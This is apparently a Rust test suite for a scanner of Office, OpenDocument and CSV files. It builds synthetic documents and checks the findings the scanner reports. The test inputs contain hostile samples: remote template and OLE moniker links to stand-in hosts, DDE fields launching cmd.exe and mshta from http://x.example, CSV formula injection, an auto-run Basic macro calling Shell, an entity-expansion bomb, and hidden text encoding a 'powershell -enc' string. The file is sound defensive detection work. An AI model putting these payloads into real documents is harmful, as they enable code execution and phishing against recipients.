//! Packages put together from parts, findings and indicators as text out.

use std::io::{Cursor, Write as _};

use bytes::Bytes;
use proptest::prelude::*;

use crate::{
    Budget, Hints, Kind, Relation,
    scan::{About, Scan},
};

fn zip(parts: &[(&str, &str)]) -> Bytes {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, text) in parts {
        writer.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        writer.write_all(text.as_bytes()).unwrap();
    }
    Bytes::from(writer.finish().unwrap().into_inner())
}

const TYPES: &str = r#"<Types><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml"
    ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
const ROOT: &str = r#"<Relationships><Relationship Id="r1" Type="http://x/officeDocument" Target="word/document.xml"/></Relationships>"#;

fn analysed(kind: Kind, bytes: &Bytes, look: impl FnOnce(&Scan<'_>) -> String) -> String {
    let hints = Hints { sender_domain: Some("sender.example".to_owned()), ..Hints::default() };
    let mut budget = Budget::new(bytes.len() as u64);
    let about = About { name: String::new(), kind, declared: None, relation: Relation::Input, depth: 0 };
    let mut scan = Scan::new(about, &hints, &mut budget);
    crate::dispatch::content(bytes, &mut scan);
    look(&scan)
}

fn found(scan: &Scan<'_>) -> String {
    let mut out: Vec<String> = Vec::new();
    for f in &scan.findings {
        let line = format!("{} {:?}", f.id.name(), f.severity);
        if !out.contains(&line) {
            out.push(line);
        }
    }
    out.extend(scan.children.iter().map(|c| format!("child {} {}", c.name, c.bytes.len())));
    out.join("\n")
}

/// A document of a body and relations.
fn check(body: &str, relations: &str) -> String {
    let document = format!("<w:document><w:body>{body}</w:body></w:document>");
    let rels = format!("<Relationships>{relations}</Relationships>");
    let parts = [
        ("[Content_Types].xml", TYPES),
        ("_rels/.rels", ROOT),
        ("word/document.xml", document.as_str()),
        ("word/_rels/document.xml.rels", rels.as_str()),
    ];
    analysed(Kind::Docx, &zip(&parts), found)
}

fn external(kind: &str, target: &str) -> String {
    check(
        "",
        &format!(r#"<Relationship Id="r" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>"#),
    )
}

#[test]
fn relations_to_the_outside() {
    assert_eq!(external("attachedTemplate", "http://evil.example/t.dotm"), "TPL-REMOTE Critical");
    assert_eq!(external("attachedTemplate", "https://t.example/letter.dotx"), "TPL-REMOTE High");
    assert_eq!(external("attachedTemplate", "https://files.sender.example/letter.dotm"), "TPL-REMOTE Low");
    assert_eq!(external("attachedTemplate", r"file:///C:\Users\x\Normal.dotm"), "");
    assert_eq!(
        external("attachedTemplate", r"file:///\\fileserver\t\x.dotx"),
        "UNC-LEAK Info\nTPL-REMOTE Low"
    );
    assert_eq!(
        external("oleObject", "mhtml:http://e.example/a.html!x-usc:http://e.example/a.html"),
        "OLE-LINK-MONIKER Critical\nOLE-LINK-EXT High"
    );
    assert_eq!(
        external("oleObject", "http://e.example/a.html!"),
        "OLE-LINK-MONIKER Critical\nOLE-LINK-EXT High"
    );
    assert_eq!(external("oleObject", r"file:///D:\Budget.xlsx"), "");
    assert_eq!(external("image", "https://track.example/p.png"), "OOXML-EXT-IMAGE Low");
    assert_eq!(external("image", r"\\203.0.113.9\s\p.png"), "UNC-LEAK High\nOOXML-EXT-IMAGE Medium");
    assert_eq!(external("frame", "http://e.example/f"), "OOXML-EXT-FRAME High");
    assert_eq!(external("hyperlink", "https://www.example.com/"), "");
    assert_eq!(external("hyperlink", "mailto:a@b.example"), "");
}

fn run(code: &str) -> String {
    let begin = r#"<w:r><w:fldChar w:fldCharType="begin"/></w:r>"#;
    let end = r#"<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>"#;
    let pieces: String =
        code.split('~').map(|p| format!("<w:r><w:instrText>{p}</w:instrText></w:r>")).collect();
    format!("<w:p>{begin}{pieces}{end}</w:p>")
}

#[test]
fn fields_across_runs() {
    let command = r#" DDE~AUTO c:\\windows\\system32\\cmd.exe "/k calc""#;
    assert_eq!(check(&run(command), ""), "DDE-AUTO High\nDDE-CMD Critical");
    assert_eq!(check(&run(r#"DDE Excel "C:\\quality control\\a.xls" R1C1"#), ""), "DDE-FIELD Info");
    assert_eq!(check(&run("PAGE"), ""), "");
    assert_eq!(check(&run(r#"HYPERLINK "https://a.example/" \o "x""#), ""), "");
    assert_eq!(check(&run("QUOTE 169"), ""), "");
    let simple = r#"<w:fldSimple w:instr="DDEAUTO mshta http://x.example/a.hta"/>"#;
    assert_eq!(check(simple, ""), "DDE-AUTO High\nDDE-CMD Critical");
    assert_eq!(
        check(r#"<w:fldSimple w:instr="INCLUDEPICTURE &quot;https://x.example/a.png&quot; \d"/>"#, ""),
        "OOXML-EXT-IMAGE Low"
    );
}

#[test]
fn texts_properties_and_slides() {
    let core = r#"<cp:coreProperties xmlns:dc="x"><dc:creator>Ann</dc:creator><dcterms:created>2021-11-02T10:00:00Z</dcterms:created>
        </cp:coreProperties>"#;
    let custom = r#"<Properties><property name="p1"><vt:lpwstr>v1</vt:lpwstr></property></Properties>"#;
    let document = r#"<w:document><w:p><w:r><w:rPr><w:color w:val="ff0000"/></w:rPr><w:t>Dear </w:t></w:r><w:r><w:t>all</w:t></w:r>
        <w:r><w:rPr><w:vanish/></w:rPr><w:t>secret</w:t></w:r></w:p></w:document>"#;
    let parts = [
        ("[Content_Types].xml", TYPES),
        ("_rels/.rels", ROOT),
        ("word/document.xml", document),
        ("docProps/core.xml", core),
        ("docProps/custom.xml", custom),
    ];
    let seen = analysed(Kind::Docx, &zip(&parts), |scan| {
        let office = scan.facts.office.clone().unwrap();
        format!(
            "{:?} {:?} {:?} {:?} {:?} {:?}",
            scan.facts.text,
            office.words,
            office.author,
            office.created,
            office.font_colors,
            scan.facts.metadata.last()
        )
    });
    assert_eq!(seen, r#"Some("Dear all\n") 2 Some("Ann") Some(1635847200) ["FF0000"] Some(("p1", "v1"))"#);
}

#[test]
fn parts_under_any_name() {
    let types = r#"<Types><Override PartName="/WORD/Doc%75ment.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#;
    let root = r#"<Relationships><Relationship Type="x/officeDocument" Target="\word\d%6Fcument.xml"/></Relationships>"#;
    let parts = [
        ("[Content_Types].xml", types),
        ("_rels/.rels", root),
        ("word\\Document.xml", "<d><t>hello</t></d>"),
        ("word/embeddings/a.rtf", "{\\rtf1 x}"),
    ];
    let seen = analysed(Kind::Docx, &zip(&parts), |scan| format!("{:?}\n{}", scan.facts.text, found(scan)));
    assert!(seen.contains("Some(\"hello\")") && seen.contains("child word/embeddings/a.rtf 9"), "{seen}");
}

#[test]
fn links_of_workbooks_and_ribbons() {
    let link = |service: &str, topic: &str| {
        let xml =
            format!(r#"<externalLink><ddeLink ddeService="{service}" ddeTopic="{topic}"/></externalLink>"#);
        analysed(Kind::Xlsx, &zip(&[("[Content_Types].xml", TYPES), ("xl/externalLinks/l.xml", &xml)]), found)
    };
    assert_eq!(link("cmd", "/c echo"), "DDE-LINK High\nDDE-CMD Critical");
    assert_eq!(link("Excel", "[a.xls]S"), "DDE-LINK Info");
    assert_eq!(link("TWINDDE", "RSPRICES"), "DDE-LINK Medium");
    let ribbon = r#"<customUI onLoad="Start"><ribbon/></customUI>"#;
    assert_eq!(
        analysed(Kind::Docx, &zip(&[("[Content_Types].xml", TYPES), ("customUI/x.xml", ribbon)]), found),
        "OOXML-CUSTOMUI Medium"
    );
}

#[test]
fn open_documents() {
    let content = r#"<office:document-content><office:event-listeners><script:event-listener script:event-name="dom:load"
        xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic"/></office:event-listeners>
        <text:p>Hello <text:a xlink:href="https://a.example/">there</text:a></text:p>
        <draw:image xlink:href="https://track.example/p.png"/><draw:object xlink:href="./Object 1"/></office:document-content>"#;
    let module = r#"<script:module script:name="M">Sub Main
        Shell("calc")
        End Sub</script:module>"#;
    let zip =
        zip(&[("content.xml", content), ("Basic/Standard/M.xml", module), ("META-INF/manifest.xml", "<m/>")]);
    assert_eq!(analysed(Kind::Odf, &zip, found), "VBA-AUTOEXEC Low\nOOXML-EXT-IMAGE Low\nVBA-PRESENT Info");
    assert_eq!(
        analysed(Kind::Odf, &zip, |s| s.facts.text.clone().unwrap_or_default().trim().to_owned()),
        "Hello there"
    );
}

#[test]
fn macro_projects_under_other_names() {
    // A compound file that names a project; what is in it does not matter here.
    let mut project = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec();
    project.resize(1_024, 0);
    project.extend("_VBA_PROJECT".bytes().flat_map(|b| [b, 0]));
    let project: String = project.iter().map(|b| char::from(*b)).collect();
    let of = |name: &str, kind: &str, relation: &str| {
        let types = format!(
            r#"<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>
            <Override PartName="/word/{name}" ContentType="{kind}"/></Types>"#
        );
        let rels = format!(
            r#"<Relationships><Relationship Id="a" Type="http://x/{relation}" Target="{name}"/></Relationships>"#
        );
        let path = format!("word/{name}");
        let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
        for (name, text) in [
            ("[Content_Types].xml", types.as_str()),
            ("_rels/.rels", ROOT),
            ("word/document.xml", "<d/>"),
            ("word/_rels/document.xml.rels", rels.as_str()),
            (path.as_str(), project.as_str()),
        ] {
            writer.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
            writer.write_all(&text.chars().map(|c| c as u8).collect::<Vec<u8>>()).unwrap();
        }
        let bytes = Bytes::from(writer.finish().unwrap().into_inner());
        analysed(Kind::Docx, &bytes, |scan| scan.has(crate::Id::OoxmlPartMismatch).to_string())
    };
    const TYPE: &str = "application/vnd.ms-office.vbaProject";
    assert_eq!(of("vbaProject.bin", TYPE, "vbaProject"), "false");
    assert_eq!(of("image1.bin", TYPE, "vbaProject"), "true");
    assert_eq!(of("vbaProject.bin", "image/png", "vbaProject"), "true");
    assert_eq!(of("vbaProject.bin", TYPE, "image"), "true");
    assert_eq!(of("embeddings/oleObject1.bin", TYPE, "oleObject"), "false");
}

#[test]
fn documents_that_are_one_xml() {
    let word = r#"<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">
        <w:binData w:name="oledata.mso">SGVsbG8=</w:binData><w:docPr><w:attachedTemplate w:val="http://e.example/a.dotm"/></w:docPr>
        <w:p><w:r><w:t>Hi</w:t></w:r></w:p></w:wordDocument>"#;
    assert_eq!(
        analysed(Kind::WordXml, &Bytes::from_static(word.as_bytes()), found),
        "TPL-REMOTE Critical\nchild oledata.mso 5"
    );
}

#[test]
fn tables() {
    let csv = |text: &'static str| analysed(Kind::Csv, &Bytes::from_static(text.as_bytes()), found);
    assert_eq!(csv("a,b\n=cmd|'/c calc'!A0,2\n"), "DDE-CSV Medium\nDDE-CMD Critical");
    assert_eq!(csv("a;b\n\"+2+3+foo|'x'!A1\";2\n"), "DDE-CSV Medium");
    assert_eq!(csv("id;name\n1;=total\n2;-15|x\n3;Really? a|b!\n"), "");
}

#[test]
fn hostile_xml_ends() {
    let deep = "<a>".repeat(200_000);
    check(&deep, "");
    check(&r#"<w:fldChar w:fldCharType="begin"/>"#.repeat(20_000), "");
    let laughs = r#"<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><d><t>&b;&b;</t></d>"#;
    assert_eq!(check(laughs, ""), "");
}

proptest! {
    #[test]
    fn any_pieces_are_read(pieces in proptest::collection::vec(0..16_usize, 0..120)) {
        const PIECES: [&str; 16] = [
            "<w:p>", "</w:p>", "<w:t>", "</w:t>", "text &amp; &#x41; &x;", "<w:fldChar w:fldCharType=\"begin\"/>",
            "<w:fldChar w:fldCharType=\"end\"/>", "<w:instrText>", "QUOTE 68 68 69", "</w:instrText>", "<![CDATA[",
            "]]>", "<!--", "<a b='", "<?x", "SET a \"",
        ];
        let body: String = pieces.iter().filter_map(|i| PIECES.get(*i).copied()).collect();
        check(&body, &body);
    }
}

/// Findings about looks of a document with this body, with a macro project or without.
fn looks(body: &str, macros: bool) -> String {
    let document = format!("<w:document><w:body>{body}</w:body></w:document>");
    let parts =
        [("[Content_Types].xml", TYPES), ("_rels/.rels", ROOT), ("word/document.xml", document.as_str())];
    let bytes = zip(&parts);
    let hints = Hints::default();
    let mut budget = Budget::new(bytes.len() as u64);
    let about =
        About { name: String::new(), kind: Kind::Docx, declared: None, relation: Relation::Input, depth: 0 };
    let mut scan = Scan::new(about, &hints, &mut budget);
    crate::dispatch::content(&bytes, &mut scan);
    if macros {
        scan.active = true;
        scan.find(crate::Id::VbaPresent, "", "");
    }
    crate::bus::run(&mut scan);
    let looks = scan.findings.iter().filter(|f| f.id.name().starts_with("LURE-"));
    looks.map(|f| format!("{} {:?} {}", f.id.name(), f.severity, f.evidence)).collect::<Vec<_>>().join(", ")
}

#[test]
fn a_picture_instead_of_a_document() {
    let picture = |centimetres: u32| {
        let (x, y) = (centimetres * 360_000, 8 * 360_000);
        format!(
            "<w:p><w:r><w:drawing><a:graphic><pic:pic><pic:spPr><a:xfrm><a:ext cx='{x}' cy='{y}'/></a:xfrm></pic:spPr></pic:pic></a:graphic></w:drawing></w:r></w:p>"
        )
    };
    assert_eq!(looks(&picture(15), true), "LURE-IMAGE Medium a picture of 120 cm² and 0 words");
    assert_eq!(looks(&picture(15), false), "");
    assert_eq!(looks(&picture(3), true), "");
    let letter = "<w:p><w:r><w:t>word </w:t></w:r></w:p>".repeat(60);
    assert_eq!(looks(&format!("{}{letter}", picture(15)), true), "");
}

#[test]
fn text_that_nobody_sees() {
    let run =
        |format: &str, text: &str| format!("<w:p><w:r><w:rPr>{format}</w:rPr><w:t>{text}</w:t></w:r></w:p>");
    let (white, text) = ("<w:color w:val='FFFFFF'/>", "cG93ZXJzaGVsbCAtZW5jIEFBQUFBQUFBQUFBQQ");
    let found = "LURE-HIDDEN-TEXT Low cG93ZXJzaGVsbCAtZW5jIEFBQUFBQUFBQUFBQQ";
    assert_eq!(looks(&run(white, text), true), found);
    assert_eq!(looks(&run("<w:vanish/>", text), true), found);
    assert_eq!(looks(&run(white, text), false), "");
    assert_eq!(looks(&run(white, "short"), true), "");
    assert_eq!(looks(&run("<w:color w:val='000000'/>", text), true), "");
    assert_eq!(looks(&run("<w:webHidden/>", text), true), "");
    // White letters on a coloured ground are how tables and buttons look.
    assert_eq!(looks(&format!("<w:tbl>{}</w:tbl>", run(white, text)), true), "");
    assert_eq!(looks(&run(&format!("{white}<w:shd w:fill='0000FF'/>"), text), true), "");
}
